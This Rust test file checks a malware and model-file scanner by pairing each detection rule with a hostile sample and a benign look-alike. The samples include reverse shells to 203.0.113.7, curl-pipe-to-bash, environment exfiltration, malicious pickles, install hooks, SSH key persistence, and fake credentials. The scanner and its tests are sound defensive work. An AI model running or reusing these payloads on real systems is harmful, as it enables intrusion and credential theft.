//! Every built-in rule: one file that it is for, and one that looks like it and is honest. Nothing here is run.

#![expect(clippy::unwrap_used, reason = "a helper that fails is a test that fails")]

use picket_artifact::{ScanOptions, Severity, scan};
use picket_yara::{Limits, RuleSet, built_in};
use std::collections::BTreeSet;
use std::sync::Arc;

/// Rule, name and content of a true positive, name and content of a near miss.
type Case = (&'static str, &'static str, Vec<u8>, &'static str, Vec<u8>);

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let value = chunk.iter().fold(0_u32, |value, byte| value << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for at in 0..4 {
            let index = usize::try_from(value >> (18 - 6 * at) & 63).unwrap();
            out.push(if at <= chunk.len() { char::from(*ALPHABET.get(index).unwrap()) } else { '=' });
        }
    }
    out
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// A safetensors file with one metadata text.
fn safetensors(text: &str) -> Vec<u8> {
    let escaped = text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n");
    let header = format!("{{\"__metadata__\":{{\"note\":\"{escaped}\"}}}}");
    let mut file = (header.len() as u64).to_le_bytes().to_vec();
    file.extend_from_slice(header.as_bytes());
    file
}

const PICKLE: &[u8] = b"cposix\nsystem\n(S'true'\ntR.";
const HARMLESS: &[u8] = b"ccollections\nOrderedDict\n(tR.";

fn notebook(line: &str) -> Vec<u8> {
    let line = line.replace('\\', "\\\\").replace('"', "\\\"");
    format!("{{\"cells\":[{{\"cell_type\":\"code\",\"source\":[\"{line}\"]}}],\"nbformat\":4,\"nbformat_minor\":5,\"metadata\":{{}}}}").into_bytes()
}

fn cases() -> Vec<Case> {
    let mut cases = pickles();
    cases.extend(loaders());
    cases.extend(payloads());
    cases.extend(shells());
    cases.extend(persistence());
    cases.extend(rest());
    cases
}

fn pickles() -> Vec<Case> {
    let embedded = |pickle: &[u8]| [b"\x89PNG\r\n\x1a\n".as_slice(), &[0; 64], pickle].concat();
    vec![
        ("PICKET-YAR-001", "a.png", embedded(PICKLE), "a.md", b"the opcode c takes two lines: os\nsystem\nand pushes what they name".to_vec()),
        (
            "PICKET-YAR-002",
            "config.json",
            format!("{{\"state\":\"{}\"}}", base64(PICKLE)).into_bytes(),
            "config.json",
            format!("{{\"state\":\"{}\"}}", base64(HARMLESS)).into_bytes(),
        ),
        (
            "PICKET-YAR-003",
            "a.yaml",
            format!("state: {}\nname: x\n", hex(PICKLE)).into_bytes(),
            "a.yaml",
            format!("state: {}\nname: x\n", hex(HARMLESS)).into_bytes(),
        ),
    ]
}

fn loaders() -> Vec<Case> {
    vec![
        (
            "PICKET-YAR-010",
            "load.py",
            b"import io, requests, torch\nmodel = torch.load(io.BytesIO(requests.get(URL).content))\n".to_vec(),
            "load.py",
            b"import requests, torch\nopen(path, 'wb').write(requests.get(URL).content)\nmodel = torch.load(path, weights_only=True)\n".to_vec(),
        ),
        (
            "PICKET-YAR-011",
            "load.py",
            b"import pickle, base64\nobj = pickle.loads(base64.b64decode('gASVAAAA'))\n".to_vec(),
            "load.py",
            b"import pickle, base64\nobj = pickle.loads(base64.b64decode(message.body))\n".to_vec(),
        ),
        (
            "PICKET-YAR-012",
            "hub.py",
            b"import torch\nm = torch.hub.load('someone/repo', 'model', trust_repo=True)\n".to_vec(),
            "hub.py",
            b"import torch\nm = torch.hub.load('pytorch/vision', 'resnet18', trust_repo=True)\n".to_vec(),
        ),
    ]
}

fn payloads() -> Vec<Case> {
    let bytes = "\\x90".repeat(32);
    vec![
        (
            "PICKET-YAR-020",
            "a.ipynb",
            notebook("exec(zlib.decompress(base64.b64decode(blob)))"),
            "a.ipynb",
            notebook("image = Image.open(io.BytesIO(base64.b64decode(blob)))"),
        ),
        (
            "PICKET-YAR-021",
            "a.ipynb",
            notebook("!curl -s http://203.0.113.7/x.sh | bash"),
            "a.ipynb",
            notebook("!curl -fsSL https://example.com/install.sh | sh"),
        ),
        (
            "PICKET-YAR-022",
            "a.py",
            format!("blob = '{}'\n", base64(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0")).into_bytes(),
            "a.py",
            format!("blob = '{}'\n", base64(b"\x7fELF is how a program begins")).into_bytes(),
        ),
        (
            "PICKET-YAR-023",
            "a.py",
            format!(
                "import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC)\nc = b\"{bytes}\"\nf = ctypes.CFUNCTYPE(ctypes.c_int)(m)\n"
            )
            .into_bytes(),
            "a.py",
            b"import ctypes\nlib = ctypes.CDLL('libm.so.6')\nlib.cos.restype = ctypes.c_double\nf = ctypes.CFUNCTYPE(ctypes.c_int)(callback)\n".to_vec(),
        ),
        (
            "PICKET-YAR-024",
            "a.py",
            b"w = model.state_dict()['fc.weight'].numpy()\nbits = np.packbits(w.view(np.uint8) & 1)\nexec(bits.tobytes().decode())\n".to_vec(),
            "a.py",
            b"w = model.state_dict()['fc.weight'].numpy()\nbits = np.packbits(w > 0)\nnp.save('signs.npy', bits)\n".to_vec(),
        ),
        (
            "PICKET-YAR-025",
            "a.py",
            b"os.system('powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=')\n".to_vec(),
            "a.py",
            b"subprocess.run(['powershell', '-ExecutionPolicy', 'Bypass', '-File', 'install.ps1'])\n".to_vec(),
        ),
    ]
}

fn shells() -> Vec<Case> {
    vec![
        (
            "PICKET-YAR-030",
            "run.sh",
            b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n".to_vec(),
            "run.sh",
            b"#!/bin/bash\nuntil (echo > /dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done\nbash -i\n".to_vec(),
        ),
        (
            "PICKET-YAR-031",
            "a.py",
            b"import socket,os,pty\ns=socket.socket()\ns.connect((\"203.0.113.7\",4444))\nos.dup2(s.fileno(),0)\npty.spawn(\"/bin/sh\")\n".to_vec(),
            "a.py",
            b"import socket,subprocess\ns=socket.socket()\ns.connect((\"localhost\",8888))\nsubprocess.run([\"/bin/sh\", \"-c\", \"ls\"])\n".to_vec(),
        ),
    ]
}

fn persistence() -> Vec<Case> {
    vec![
        (
            "PICKET-YAR-040",
            "evil.pth",
            b"import os; exec(open('/dev/null').read())\n".to_vec(),
            "editable.pth",
            b"import __editable___package_finder; __editable___package_finder.install()\n/srv/src\n".to_vec(),
        ),
        (
            "PICKET-YAR-041",
            "setup.py",
            b"from setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        os.system(urlopen(U).read().decode())\n"
                .to_vec(),
            "setup.py",
            b"from setuptools.command.build_ext import build_ext\nclass Build(build_ext):\n    def run(self):\n        subprocess.check_call(['cmake', '.'])\n"
                .to_vec(),
        ),
        (
            "PICKET-YAR-042",
            "a.sh",
            b"#!/bin/sh\necho \"ssh-ed25519 AAAA x\" >> ~/.ssh/authorized_keys\n".to_vec(),
            "a.sh",
            b"#!/bin/sh\nchmod 600 ~/.ssh/authorized_keys\n".to_vec(),
        ),
        (
            "PICKET-YAR-043",
            "a.py",
            b"import os, requests\nrequests.post('http://203.0.113.7/', json=dict(os.environ))\n".to_vec(),
            "a.py",
            b"import os, requests\nrequests.post(os.environ['URL'], json={'loss': loss})\n".to_vec(),
        ),
    ]
}

fn rest() -> Vec<Case> {
    let pem = format!("-----BEGIN PRIVATE KEY-----\n{}", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7".repeat(2));
    vec![
        (
            "PICKET-YAR-050",
            "config.json",
            b"{\"pools\":[{\"url\":\"stratum+tcp://pool.example.org:3333\"}]}".to_vec(),
            "notes.txt",
            b"stratum+tcp is a protocol between miners and pools; our stratum of samples is another one".to_vec(),
        ),
        ("PICKET-YAR-060", "m.safetensors", safetensors(&pem), "m.safetensors", safetensors("-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A")),
        (
            "PICKET-YAR-061",
            "m.safetensors",
            safetensors("pushed with hf_AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh"),
            "m.safetensors",
            safetensors("set HF_TOKEN to hf_xxx before you push"),
        ),
        (
            "PICKET-YAR-062",
            "credentials",
            b"[default]\naws_secret_access_key = wJalrXUtnFEMIK7MDENGbPxRfiCYzQ9dKL2mN4pT\n".to_vec(),
            "credentials",
            b"[default]\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n".to_vec(),
        ),
        (
            "PICKET-YAR-070",
            "a.py",
            b"import socket,struct\ns=socket.socket()\nl=struct.unpack('>I',s.recv(4))[0]\nd=s.recv(l)\nexec(d,{'s':s})\n".to_vec(),
            "a.py",
            b"import socket,struct\ns=socket.socket()\nl=struct.unpack('>I',s.recv(4))[0]\nd=json.loads(s.recv(l))\n".to_vec(),
        ),
        (
            "PICKET-YAR-071",
            "a.py",
            b"class P:\n    def __reduce__(self):\n        return (os.system, ('id',))\ntorch.save(P(), 'm.pt')\n".to_vec(),
            "a.py",
            b"class P:\n    def __reduce__(self):\n        return (P, (self.x,))\ntorch.save(P(), 'm.pt')\n".to_vec(),
        ),
    ]
}

fn options() -> ScanOptions {
    ScanOptions { region_rules: Some(Arc::new(RuleSet::compile(&built_in(), Limits::default()).unwrap())), ..ScanOptions::default() }
}

#[test]
fn every_rule_finds_its_case_and_leaves_its_near_miss() {
    let options = options();
    for (rule, name, content, near_name, near) in cases() {
        let ids = |name: &str, content: &[u8]| -> Vec<&'static str> { scan(&content, name, &options).findings.iter().map(|finding| finding.rule_id).collect() };
        assert!(ids(name, &content).contains(&rule), "{rule} misses {name}: {:?}", scan(&content.as_slice(), name, &options));
        assert!(!ids(near_name, &near).contains(&rule), "{rule} takes its near miss {near_name}");
    }
}

#[test]
fn every_rule_has_a_case_and_says_what_findings_need() {
    let set = RuleSet::compile(&built_in(), Limits::default()).unwrap();
    let ids: BTreeSet<&str> = set.rules().map(|rule| rule.id).collect();
    let tested: BTreeSet<&str> = cases().iter().map(|case| case.0).collect();
    assert_eq!(ids, tested);
    assert_eq!(ids.len(), set.len(), "two rules share an id");
    for rule in set.rules() {
        assert!(rule.id.starts_with("PICKET-YAR-") && rule.version != "unversioned" && rule.severity >= Severity::Medium, "{rule:?}");
        assert!(rule.techniques.iter().any(|id| id.starts_with('T')) && rule.techniques.iter().any(|id| id.starts_with("AML.T")), "{rule:?}");
        assert!(rule.title.len() < 90 && !rule.title.ends_with('.'), "{rule:?}");
    }
}
